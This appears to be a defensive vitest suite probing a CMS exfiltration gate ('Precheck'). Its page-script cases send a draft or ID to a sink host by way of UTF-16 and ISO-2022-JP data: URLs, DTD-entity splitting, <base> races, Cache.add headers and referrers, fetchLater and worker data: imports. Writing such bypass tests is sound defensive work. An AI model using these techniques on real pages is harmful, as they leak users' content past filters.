/**
 * The twelfth probe (2026-12-06, a helper in real Chromium): around the eleventh's fixes (data: URLs
 * judged by lib/gate/data-url.ts in hooks/load-judge.ts, CSS tokenized by lib/gate/css-urls.ts, a
 * worker's FontFace and Cache) and at other parsers and loaders: data: URLs read otherwise than the
 * browser reads them (where ';base64' stands, the charset), data: documents reached by navigation,
 * XML documents whose DTD entities the judge does not expand, base URLs the judge does not know, and
 * what a Request carries into Cache.add besides its URL. Each case is page script; a case is a finding
 * when the ID arrives without Precheck (control host) and also with it.
 */
import { describe, test } from 'vitest';
import { probePage } from './probe-page.ts';

const { expectCleanArrives, expectDeliveredOnlyWithout } = probePage();

/**
 * Page helpers: the draft percent-encoded, a wait, a box and a wait until its style has loaded, an
 * `<img>` tag with the draft, a frame, UTF-16LE percent escapes, UTF-8 base64, the ID in two halves.
 */
const PRE = String.raw`
  const enc = encodeURIComponent(draft);
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
  const box = (cls) => { const el = document.createElement('div'); el.style.width = '40px'; el.style.height = '40px'; if (cls) el.className = cls; document.body.append(el); return el; };
  const paint = async (el) => { getComputedStyle(el).backgroundImage; await new Promise((r) => requestAnimationFrame(() => setTimeout(r, 700))); };
  const img = (name) => '<img src="' + sink(name) + '?content=' + enc + '">';
  const frameOf = async (src, name) => { const f = document.createElement('iframe'); if (name) f.name = name; if (src) f.src = src; document.body.append(f); await wait(1000); return f; };
  const u16 = (s) => Array.from(s, (c) => { const n = c.charCodeAt(0); return '%' + (n & 255).toString(16).padStart(2, '0') + '%' + (n >> 8).toString(16).padStart(2, '0'); }).join('');
  const u16bytes = (s) => { const b = new Uint8Array(2 + s.length * 2); b[0] = 0xff; b[1] = 0xfe; for (let i = 0; i < s.length; i++) { b[2 + 2 * i] = s.charCodeAt(i) & 255; b[3 + 2 * i] = s.charCodeAt(i) >> 8; } return b; };
  const b64 = (s) => btoa(unescape(encodeURIComponent(s)));
  const IDA = ID.slice(0, 10);
  const IDB = ID.slice(10);
`;
const page = (code: string) => PRE + code;

/** data: URLs: how the judge reads them against how Chromium does, and where they are reached from. */
const DATA_CASES: [label: string, code: string][] = [
  [
    'data: HTML frame in UTF-16 (charset=utf-16le), its <img> naming the draft',
    String.raw`await frameOf('data:text/html;charset=utf-16le,' + u16(img('p12-utf16-charset')));`,
  ],
  [
    'data: HTML frame in UTF-16 by its BOM alone (no charset)',
    String.raw`await frameOf('data:text/html,%FF%FE' + u16(img('p12-utf16-bom')));`,
  ],
  [
    'data: stylesheet (<link>) in UTF-16 (charset=utf-16le), its @import naming the draft',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css;charset=utf-16le,' + u16('@import url("' + sink('p12-utf16-css') + '?content=' + enc + '");'); document.head.append(l); await wait(900);`,
  ],
  [
    'data: stylesheet (<link>) in UTF-16 by its BOM alone',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css,%FF%FE' + u16('@import url("' + sink('p12-utf16-css-bom') + '?content=' + enc + '");'); document.head.append(l); await wait(900);`,
  ],
  [
    "a fresh frame's location set to a data: HTML document",
    String.raw`const f = await frameOf(''); f.contentWindow.location.href = 'data:text/html,' + encodeURIComponent(img('p12-fresh-location-data')); await wait(1200);`,
  ],
  [
    "a loaded frame's location set to a data: HTML document",
    String.raw`const f = await frameOf('/routes/frame.html'); f.contentWindow.location.href = 'data:text/html,' + encodeURIComponent(img('p12-loaded-location-data')); await wait(1200);`,
  ],
  [
    'a link to a data: HTML document aimed at a named frame, clicked',
    String.raw`await frameOf('', 'p12t'); const a = document.createElement('a'); a.href = 'data:text/html,' + encodeURIComponent(img('p12-link-target-data')); a.target = 'p12t'; a.textContent = 'x'; document.body.append(a); a.click(); await wait(1200);`,
  ],
  [
    'a form whose action is a data: HTML document, posted into a named frame',
    String.raw`await frameOf('', 'p12fm'); const fm = document.createElement('form'); fm.method = 'post'; fm.action = 'data:text/html,' + encodeURIComponent(img('p12-form-data')); fm.target = 'p12fm'; document.body.append(fm); fm.requestSubmit(); await wait(1200);`,
  ],
  [
    'window.open of a data: HTML document into a named frame',
    String.raw`await frameOf('', 'p12wo'); window.open('data:text/html,' + encodeURIComponent(img('p12-open-data')), 'p12wo'); await wait(1200);`,
  ],
  [
    'a data: HTML frame whose unquoted meta refresh names the draft',
    String.raw`await frameOf('data:text/html,' + encodeURIComponent('<meta http-equiv=refresh content=0;url=' + sink('p12-data-refresh') + '?content=' + enc + '>')); await wait(800);`,
  ],
  [
    'a srcdoc whose unquoted meta refresh names the draft',
    String.raw`const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content=0;url=' + sink('p12-srcdoc-refresh') + '?content=' + enc + '>'; document.body.append(f); await wait(1800);`,
  ],
  [
    'a data: HTML frame holding a data: base64 frame holding the <img> (nested)',
    String.raw`await frameOf('data:text/html,' + encodeURIComponent('<iframe src="data:text/html;base64,' + b64(img('p12-nested-data')) + '"></iframe>')); await wait(600);`,
  ],
  [
    'data: HTML frame in ISO-2022-JP, an escape sequence (ESC ( B) inside the ID that the decoder drops',
    String.raw`await frameOf('data:text/html;charset=iso-2022-jp,' + encodeURIComponent('<img src="' + sink('p12-iso2022jp') + '?c=' + IDA) + '%1B(B' + encodeURIComponent(IDB + '">'));`,
  ],
  [
    'blob: HTML frame in UTF-16 (BOM, type text/html), its <img> naming the draft',
    String.raw`await frameOf(URL.createObjectURL(new Blob([u16bytes(img('p12-blob-utf16'))], { type: 'text/html' })));`,
  ],
  [
    'blob: stylesheet (<link>) in UTF-16 (BOM, type text/css), its @import naming the draft',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL.createObjectURL(new Blob([u16bytes('@import url("' + sink('p12-blob-utf16-css') + '?content=' + enc + '");')], { type: 'text/css' })); document.head.append(l); await wait(900);`,
  ],
  [
    'a meta refresh to a data: HTML document written into a fresh frame',
    String.raw`const f = await frameOf(''); const m = f.contentDocument.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=data:text/html,' + encodeURIComponent(img('p12-fresh-refresh-data')); f.contentDocument.head.append(m); await wait(1500);`,
  ],
  [
    "a fresh frame's location.replace() with a data: HTML document (frames[n])",
    String.raw`await frameOf(''); frames[frames.length - 1].location.replace('data:text/html,' + encodeURIComponent(img('p12-fresh-replace-data'))); await wait(1200);`,
  ],
];

/** XML parsed with DTD entities, base URLs, Typed OM, a download. */
const PARSER_CASES: [label: string, code: string][] = [
  [
    "DOMParser (image/svg+xml): an <image> href made of two DTD entities, the ID split between them, imported into the page",
    String.raw`const xml = '<!DOCTYPE svg [<!ENTITY a "' + sink('p12-dtd-domparser') + '?c=' + IDA + '"><!ENTITY b "' + IDB + '">]><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="&a;&b;" width="10" height="10"/></svg>';
     const doc = new DOMParser().parseFromString(xml, 'image/svg+xml'); document.body.append(document.importNode(doc.documentElement, true)); await wait(1000);`,
  ],
  [
    '<embed> of a data: SVG document whose <image> href is made of two DTD entities',
    String.raw`const xml = '<!DOCTYPE svg [<!ENTITY a "' + sink('p12-dtd-embed') + '?c=' + IDA + '"><!ENTITY b "' + IDB + '">]><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="&a;&b;" width="10" height="10"/></svg>';
     const e = document.createElement('embed'); e.type = 'image/svg+xml'; e.width = 50; e.height = 50; e.src = 'data:image/svg+xml,' + encodeURIComponent(xml); document.body.append(e); await wait(1200);`,
  ],
  [
    "new CSSStyleSheet({ baseURL }) with the ID in the base's path, a relative url() adopted",
    String.raw`const s = new CSSStyleSheet({ baseURL: sink('p12-sheet-baseurl') + '/' + ID + '/' }); s.replaceSync('.p12base{background-image:url(x.png)}'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; const el = box('p12base'); await paint(el); return getComputedStyle(el).backgroundImage;`,
  ],
  [
    "a <base> with the ID in its path, then a relative background-image",
    String.raw`const b = document.createElement('base'); b.href = sink('p12-base-first') + '/' + ID + '/'; document.head.prepend(b); const el = box(); el.style.backgroundImage = 'url(x.png)'; await paint(el);`,
  ],
  [
    "img.src set relative (judged against the page's base), then at once a <base> with the ID in its path",
    String.raw`const i = new Image(); i.src = 'p12x.png'; const b = document.createElement('base'); b.href = sink('p12-base-race') + '/' + ID + '/'; document.head.prepend(b); document.body.append(i); await wait(1000);`,
  ],
  [
    "<object data> set relative, then at once a <base> with the ID in its path",
    String.raw`const o = document.createElement('object'); o.width = 30; o.height = 30; o.data = 'p12x.html'; document.body.append(o); const b = document.createElement('base'); b.href = sink('p12-base-race-object') + '/' + ID + '/'; document.head.prepend(b); await wait(1200);`,
  ],
  [
    "Typed OM: attributeStyleMap.set('--s', new CSSUnparsedValue([string])), used by image-set(var())",
    String.raw`const el = box(); el.attributeStyleMap.set('--s', new CSSUnparsedValue(['"' + sink('p12-unparsed') + '?content=' + enc + '"'])); el.style.backgroundImage = 'image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "<input type=image> src set relative, then at once a <base> with the ID in its path",
    String.raw`const i = document.createElement('input'); i.type = 'image'; i.src = 'p12x.png'; document.body.append(i); const b = document.createElement('base'); b.href = sink('p12-base-race-input') + '/' + ID + '/'; document.head.prepend(b); await wait(1000);`,
  ],
  [
    "an existing <base> whose href is changed right after a relative img.src",
    String.raw`const b = document.createElement('base'); b.href = sink('p12-base-change') + '/'; document.head.prepend(b); const i = new Image(); i.src = 'p12y.png'; b.href = sink('p12-base-change') + '/' + ID + '/'; document.body.append(i); await wait(1000);`,
  ],
  [
    'DOMParser (application/xhtml+xml): one DTD entity holding the whole URL with the draft, the <img> imported',
    String.raw`const xml = '<!DOCTYPE html [<!ENTITY u "' + sink('p12-dtd-xhtml') + '?content=' + enc + '">]><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="&u;"/></body></html>';
     const doc = new DOMParser().parseFromString(xml, 'application/xhtml+xml'); document.body.append(document.importNode(doc.querySelector('img'), true)); await wait(1000);`,
  ],
  [
    'a download link (<a download>) clicked',
    String.raw`const a = document.createElement('a'); a.href = sink('p12-download') + '?content=' + enc; a.download = 'p12.txt'; document.body.append(a); a.click(); await wait(1000);`,
  ],
];

/** What a Request carries into Cache.add/addAll besides its URL (a header, its referrer), in the page and a worker. */
const REQUEST_CASES: [label: string, code: string][] = [
  [
    "the page's Cache.add(Request) with the ID in a safelisted header (Content-Language, no-cors)",
    String.raw`const c = await caches.open('p12a'); await c.add(new Request(RAW + '/p12-cache-header', { mode: 'no-cors', headers: { 'Content-Language': ID } })).catch(() => {});`,
  ],
  [
    "the page's Cache.add(Request) whose referrer names the draft (unsafe-url)",
    String.raw`const c = await caches.open('p12b'); await c.add(new Request(RAW + '/p12-cache-referrer', { mode: 'no-cors', referrer: '/routes/?content=' + enc, referrerPolicy: 'unsafe-url' })).catch(() => {});`,
  ],
  [
    "a worker's Cache.add(Request) with the ID in a safelisted header",
    String.raw`return await inWorker("const c = await caches.open('p12c'); await c.add(new Request(RAW + '/p12-worker-cache-header', { mode: 'no-cors', headers: { 'Content-Language': ID } })).catch(() => {});");`,
  ],
  [
    "a worker's Cache.addAll([Request]) whose referrer names the draft",
    String.raw`return await inWorker("const c = await caches.open('p12d'); await c.addAll([new Request(RAW + '/p12-worker-cacheall-referrer', { mode: 'no-cors', referrer: sink('p12-ref') + '?content=' + encodeURIComponent(draft), referrerPolicy: 'unsafe-url' })]).catch(() => {});");`,
  ],
  [
    "fetchLater(Request) with the ID in a safelisted header",
    String.raw`if (typeof fetchLater !== 'function') throw new Error('no fetchLater'); fetchLater(new Request(RAW + '/p12-fetchlater-header', { mode: 'no-cors', headers: { 'Content-Language': ID } }), { activateAfter: 0 }); await wait(1500);`,
  ],
  [
    "a worker's dynamic import() of a data: module that fetches",
    String.raw`return await inWorker("await import('data:text/javascript,' + encodeURIComponent('await fetch(' + JSON.stringify(sink('p12-worker-import-data') + '?content=' + encodeURIComponent(draft)) + ', { mode: \"no-cors\" }).catch(() => {});'));");`,
  ],
];

describe('data: URLs as Chromium reads them, and where they are reached from', () => {
  test.each(DATA_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 86)));
});

describe('other parsers: XML entities, object params, base URLs, attr()', () => {
  test.each(PARSER_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 87)));
});

describe("what a Request carries into Cache.add besides its URL, and a worker's import()", () => {
  test.each(REQUEST_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 88)));
});

describe('the CMS keeps working', () => {
  test('CSS.supports() with the draft in a url() does not throw (it fetches nothing); a clean picture then loads', async () => {
    await expectCleanArrives(page(String.raw`const ok = CSS.supports('background-image', 'url(' + sink('p12-supports') + '?content=' + enc + ')'); if (!ok) throw new Error('supports said false'); const el = box(); el.style.backgroundImage = 'url(' + sink('p12-clean-after-supports') + '?v=1)'; await paint(el);`));
  });
  test('a clean data: HTML frame with a charset parameter still loads its picture', async () => {
    await expectCleanArrives(page(String.raw`await frameOf('data:text/html;charset=utf-8,' + encodeURIComponent('<img src="' + sink('p12-clean-data-charset') + '?v=2">'));`));
  });
  test('a clean base64 data: HTML frame still loads its picture', async () => {
    await expectCleanArrives(page(String.raw`await frameOf('data:text/html;base64,' + b64('<img src="' + sink('p12-clean-data-b64') + '?v=3">'));`));
  });
  test('a clean <base> with a relative picture still loads', async () => {
    await expectCleanArrives(page(String.raw`const b = document.createElement('base'); b.href = sink('p12-clean-base') + '/'; document.head.prepend(b); const i = new Image(); i.src = 'x.png?v=4'; document.body.append(i); await wait(900);`));
  });
  test("a clean constructed sheet with a baseURL still loads its picture", async () => {
    await expectCleanArrives(page(String.raw`const s = new CSSStyleSheet({ baseURL: sink('p12-clean-baseurl') + '/' }); s.replaceSync('.p12cb{background-image:url(x.png?v=5)}'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; const el = box('p12cb'); await paint(el); return getComputedStyle(el).backgroundImage;`));
  });
  test("the page's clean Cache.add(Request) with a header still fetches", async () => {
    await expectCleanArrives(page(String.raw`const c = await caches.open('p12e'); await c.add(new Request(sink('p12-clean-cache-request') + '?v=6', { headers: { 'Content-Language': 'zh-CN' } })).catch(() => {});`));
  });
});
